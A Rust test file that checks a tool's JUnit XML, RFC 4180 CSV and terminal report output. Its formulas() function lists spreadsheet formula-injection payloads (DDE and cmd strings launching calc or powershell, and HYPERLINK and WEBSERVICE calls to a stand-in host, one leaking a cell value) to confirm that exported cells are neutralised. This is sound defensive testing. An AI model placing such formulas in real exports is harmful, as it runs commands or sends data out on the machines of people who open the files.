//! What programs and terminals read: JUnit against the conventions in use, CSV against RFC 4180 and against
//! spreadsheets, text on a terminal.

use crate::report_support;
use crate::report_support::fill;
use crate::report_support::hostile;
use dutycup::door::clock::WallTime;
use dutycup::door::report::words::Words;
use dutycup::door::report::{junit, terminal, verdicts_json};
use dutycup::door::table::{Cell, Sheet, sheet};
use dutycup::door::verdict::item::{Item, Verdict, Verdicts};
use proptest::prelude::*;
use std::collections::BTreeMap;
use std::path::PathBuf;
use std::time::Duration;

fn reference(name: &str) -> String {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/reference/protocol").join(name);
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn rows(name: &str) -> Vec<BTreeMap<String, String>> {
    let text = reference(name);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let head = reader.headers().expect("a header").clone();
    reader
        .records()
        .map(|r| head.iter().map(str::to_owned).zip(r.expect("a record").iter().map(str::to_owned)).collect())
        .collect()
}

fn run() -> junit::Run {
    junit::Run {
        name: "pump-and-nozzle".into(),
        at: Some(WallTime::VIRTUAL_START),
        took: Some(Duration::from_millis(3750)),
    }
}

fn item(text: &str, verdict: Verdict) -> Item {
    Item {
        id: text.into(),
        quantity: text.into(),
        value: Some(1.5),
        unit: text.into(),
        u95: Some(0.2),
        dof: Some(4.0),
        lower: None,
        upper: Some(3.0),
        verdict,
        note: text.into(),
    }
}

/// Attributes that an element may carry and those it must, from the table of conventions and the example beside it.
fn conventions() -> BTreeMap<String, (Vec<String>, Vec<String>)> {
    let mut known: BTreeMap<String, (Vec<String>, Vec<String>)> = BTreeMap::new();
    for row in rows("junit_conventions.csv") {
        let entry = known.entry(row["element"].clone()).or_default();
        entry.0.push(row["attribute"].clone());
        if row["required"] == "yes" {
            entry.1.push(row["attribute"].clone());
        }
    }
    let example = reference("junit_example.xml");
    let document = roxmltree::Document::parse(&example).expect("the example is XML");
    for node in document.descendants().filter(roxmltree::Node::is_element) {
        let entry = known.get_mut(node.tag_name().name()).expect("an element of the table");
        entry.0.extend(node.attributes().map(|a| a.name().to_owned()));
    }
    known
}

/// Checks an element and those below it against the conventions.
fn check_element(node: roxmltree::Node, known: &BTreeMap<String, (Vec<String>, Vec<String>)>) {
    let name = node.tag_name().name();
    let (may, must) = known.get(name).unwrap_or_else(|| panic!("<{name}> is not in use"));
    for attribute in node.attributes() {
        // `disabled` is also seen, as the table says.
        let listed = may.iter().any(|a| a == attribute.name()) || attribute.name() == "disabled";
        assert!(listed, "{} on <{name}> is not in use", attribute.name());
    }
    for attribute in must {
        assert!(node.has_attribute(attribute.as_str()), "<{name}> without {attribute}");
    }
    let children = || node.children().filter(roxmltree::Node::is_element);
    let count = |wanted: &str| node.descendants().filter(|n| n.has_tag_name(wanted)).count();
    if matches!(name, "testsuite" | "testsuites") {
        let pairs =
            [("tests", "testcase"), ("failures", "failure"), ("errors", "error"), ("skipped", "skipped")];
        for (attribute, element) in pairs {
            if let Some(said) = node.attribute(attribute) {
                assert_eq!(said, count(element).to_string(), "{attribute} of <{name}>");
            }
        }
    }
    if name == "testcase" {
        let results = children().filter(|c| ["failure", "error", "skipped"].contains(&c.tag_name().name()));
        assert!(results.count() <= 1, "more than one result in a test case");
    }
    children().for_each(|child| check_element(child, known));
}

#[test]
fn junit_keeps_the_conventions() {
    let known = conventions();
    let example = reference("junit_example.xml");
    let ours = junit::xml(&report_support::verdicts(), &run()).unwrap();
    for text in [&example, &ours] {
        let document = roxmltree::Document::parse(text).unwrap();
        assert_eq!(document.root_element().tag_name().name(), "testsuites");
        check_element(document.root_element(), &known);
    }
    assert!(ours.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"));
}

#[test]
fn junit_results_follow_the_verdicts() {
    let expected = [
        (Verdict::Pass, None),
        (Verdict::Same, None),
        (Verdict::Fail, Some(("failure", "fail"))),
        (Verdict::Changed, Some(("failure", "changed"))),
        (Verdict::Undecided, Some(("failure", "undecided"))),
        (Verdict::Error, Some(("error", "bench fault"))),
        (Verdict::Skipped, Some(("skipped", ""))),
    ];
    let verdicts = Verdicts {
        verdict: Verdict::Error,
        items: expected.iter().map(|(v, _)| item("switch.trip", *v)).collect(),
    };
    let text = junit::xml(&verdicts, &run()).unwrap();
    let document = roxmltree::Document::parse(&text).unwrap();
    let cases: Vec<_> = document.descendants().filter(|n| n.has_tag_name("testcase")).collect();
    assert_eq!(cases.len(), expected.len());
    for (case, (verdict, result)) in cases.iter().zip(expected) {
        let found = case
            .children()
            .find(|c| ["failure", "error", "skipped"].contains(&c.tag_name().name()))
            .map(|c| (c.tag_name().name(), c.attribute("type").unwrap_or_default()));
        assert_eq!(found, result, "{verdict:?}");
        if let Some(result) = case.children().find(|c| c.has_attribute("message")) {
            let message = result.attribute("message").unwrap();
            assert!(message.contains("1.50 ± 0.20"), "{message}");
            assert!(message.contains("limits: at most 3"), "{message}");
        }
    }
}

/// The characters of XML 1.0, production 2 (Char).
fn is_xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..='\u{10ffff}')
}

fn check_junit(text: &str) {
    let verdicts = Verdicts {
        verdict: Verdict::Fail,
        items: vec![item(text, Verdict::Fail), item(text, Verdict::Skipped), item(text, Verdict::Pass)],
    };
    let run = junit::Run { name: text.into(), at: None, took: None };
    let xml = junit::xml(&verdicts, &run).expect("XML in memory");
    assert!(xml.chars().all(is_xml_char), "{text:?}");
    let document = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{text:?}: {e}"));
    let elements = document.descendants().filter(roxmltree::Node::is_element).count();
    assert_eq!(elements, 1 + 1 + 3 * 2 + 2, "{text:?}");
    let name =
        document.descendants().find_map(|n| n.attribute("name").filter(|_| n.has_tag_name("testcase")));
    assert_eq!(name, Some(Words::from(text).as_str()));
}

#[test]
fn junit_is_well_formed_whatever_it_holds() {
    hostile::texts().iter().for_each(|text| check_junit(text));
}

proptest! {
    #[test]
    fn junit_is_well_formed_for_any_text(text in any::<String>()) {
        check_junit(&text);
    }

    #[test]
    fn no_control_leaves_any_format(text in any::<String>()) {
        let verdicts = Verdicts { verdict: Verdict::Fail, items: vec![item(&text, Verdict::Fail)] };
        let json = verdicts_json::text(&verdicts).unwrap();
        prop_assert!(json.chars().all(|c| c == '\n' || !c.is_control()));
        let back: Verdicts = serde_json::from_str(&json).unwrap();
        prop_assert_eq!(back, verdicts);
        prop_assert!(!sheet::guarded(&text).chars().any(|c| c.is_control() && !"\r\n\t".contains(c)));
        let page = fill::everywhere(small_page(), &text);
        let look = terminal::Look { width: 80, colour: false };
        let shown = terminal::summary(&page.title, &page.summary, &text.clone().into(), look);
        prop_assert!(shown.chars().all(|c| c == '\n' || !c.is_control()));
    }
}

fn small_page() -> dutycup::door::report::page::Page {
    let mut page = report_support::page();
    page.sections.clear();
    page
}

fn unhex(hex: &str) -> String {
    let bytes: Vec<u8> =
        (0..hex.len()).step_by(2).map(|i| u8::from_str_radix(&hex[i..i + 2], 16).expect("hex")).collect();
    String::from_utf8(bytes).expect("UTF-8")
}

/// RFC 4180, round trips through another implementation.
#[test]
fn csv_records_are_those_of_rfc_4180() {
    let table = rows("csv_rfc4180.csv");
    assert!(table.len() > 8);
    for row in table {
        let fields: Vec<String> = row["fields_hex_utf8_pipe_separated"].split('|').map(unhex).collect();
        let count: usize = row["n_fields"].parse().unwrap();
        assert_eq!(fields.len(), count, "{}", row["case_id"]);
        let record = sheet::record(fields.iter().map(String::as_str));
        // Our lines end in LF, where the standard has CR LF.
        let expected = unhex(&row["record_hex_utf8"]);
        let expected = expected.strip_suffix("\r\n").unwrap();
        assert_eq!(record, format!("{expected}\n"), "{}", row["case_id"]);
    }
}

/// Texts that a spreadsheet would run (CWE-1236; OWASP ASVS 1.2.10 for the characters that begin them).
fn formulas() -> Vec<String> {
    let bodies = [
        "1+1",
        "cmd|'/C calc'!A0",
        "HYPERLINK(\"http://example.invalid?x=\"&A1,\"ok\")",
        "IMPORTXML(CONCAT(\"http://example.invalid\"),\"//a\")",
        "WEBSERVICE(\"http://example.invalid\")",
        "SUM(1)*cmd|' /C powershell'!A0",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
    ];
    let starts = ["=", "+", "-", "@", "\t=", "\r=", "\0=", "\n=", " =", "＝", "＋", "－", "＠"];
    starts.iter().flat_map(|s| bodies.iter().map(move |b| format!("{s}{b}"))).collect()
}

#[test]
fn no_cell_of_text_is_a_formula_and_numbers_stay_numbers() {
    let formulas = formulas();
    assert!(formulas.len() >= 60);
    for text in formulas.iter().chain(&hostile::texts()) {
        let mut sheet = Sheet::new(&["note", "value_kpa"]);
        sheet.row(&[Cell::Text(text), Cell::Exact(-12.3)]);
        let written = sheet.finish();
        let mut reader = csv::Reader::from_reader(written.as_bytes());
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), 1, "{text:?}");
        let cell = &records[0][0];
        let first = cell.trim_start().chars().next();
        assert!(
            !matches!(first, Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠')),
            "{text:?}: {cell:?}"
        );
        assert!(!cell.starts_with(['\t', '\r', '\n', '\0']), "{text:?}: {cell:?}");
        assert_eq!(&records[0][1], "-12.3");
    }
    let mut sheet = Sheet::new(&["note"]);
    sheet.row(&[Cell::Text("plain, with \"quotes\" - and a dash")]);
    assert_eq!(sheet.finish(), "note\n\"plain, with \"\"quotes\"\" - and a dash\"\n");
}

#[test]
fn the_terminal_summary() {
    let page = report_support::page();
    let look = terminal::Look { width: 80, colour: false };
    let text = terminal::summary(&page.title, &page.summary, &"results/demo".into(), look);
    assert!(text.lines().all(|l| l.chars().count() <= 80), "{text}");
    insta::assert_snapshot!(text);
}

#[test]
fn colour_adds_nothing_but_colour() {
    let page = report_support::page();
    let plain = terminal::Look { width: 72, colour: false };
    let tinted = terminal::Look { colour: true, ..plain };
    let show = |look| terminal::summary(&page.title, &page.summary, &"results/demo".into(), look);
    let mut stripped = show(tinted);
    assert!(stripped.contains("\x1b[1;33m"));
    for code in ["0", "1", "1;31", "1;33", "1;34"] {
        stripped = stripped.replace(&format!("\x1b[{code}m"), "");
    }
    assert_eq!(stripped, show(plain));
}
